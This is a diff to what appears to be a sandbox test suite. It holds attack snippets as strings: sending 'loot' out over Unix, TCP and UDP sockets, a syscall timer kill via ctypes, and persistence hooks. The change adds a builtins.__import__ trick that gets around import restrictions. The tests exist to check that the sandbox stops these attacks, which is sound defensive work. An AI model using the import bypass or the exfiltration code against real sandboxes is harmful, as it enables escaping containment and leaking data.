@@ -145,7 +145,9 @@ fcntl.fcntl(heard, 10, 9)
 fcntl.fcntl(heard, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
 os.write(told, b"loot")
 """
-_EXFILTRATE_UNIX = "import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
+# An attack gets around the rule of what may be imported; the system must stop it.
+_SOCKET = "import builtins\nsocket = builtins.__import__('socket')\n"
+_EXFILTRATE_UNIX = _SOCKET + "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
 _KILL_BY_TIMER = """
 import ctypes, platform
 create, set_time = {"x86_64": (222, 223), "aarch64": (107, 110)}[platform.machine()]
@@ -232,10 +234,8 @@ def later():
 atexit.register(later)
 threading.Thread(target=later).start()
 """
-_EXFILTRATE_TCP = "import socket\nsocket.create_connection(('127.0.0.1', @TCP@), 1).sendall(b'loot')"
-_EXFILTRATE_UDP = (
-    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', @UDP@))"
-)
+_EXFILTRATE_TCP = _SOCKET + "socket.create_connection(('127.0.0.1', @TCP@), 1).sendall(b'loot')"
+_EXFILTRATE_UDP = _SOCKET + "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', @UDP@))"
 _NATIVE = """
 import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
